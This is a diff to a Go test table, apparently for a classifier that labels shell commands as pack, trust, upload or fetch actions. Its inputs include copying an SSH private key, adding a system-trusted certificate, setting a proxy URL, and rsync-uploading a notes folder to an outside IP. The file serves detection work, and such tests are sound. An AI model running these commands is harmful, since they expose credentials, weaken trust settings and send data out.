@@ -139,7 +139,7 @@ func TestDeeds(t *testing.T) {
 		"cp /Volumes/Old/Users/a/.ssh/id_rsa /Users/a/old":                               "pack /Users/a/old  copy",
 		"security add-trusted-cert -d -k /Library/Keychains/System.keychain /tmp/ca.pem": "trust /tmp/ca.pem  security",
 		"networksetup -setautoproxyurl Wi-Fi http://a.invalid/p.pac":                     "trust  a.invalid networksetup",
-		"rsync -az /home/ana/notes drop@203.0.113.77:/in/":                               "pack drop@203.0.113.77:/in/notes  copy; upload /home/ana/notes 203.0.113.77 rsync",
+		"rsync -az /home/ana/notes drop@203.0.113.77:/in/":                               "pack drop@203.0.113.77:/in/  copy; upload /home/ana/notes 203.0.113.77 rsync",
 		"python3 -c 'print(1)'":                                                          "",
 		"git clone https://github.com/a/b":                                               "fetch b github.com git",
 	} {
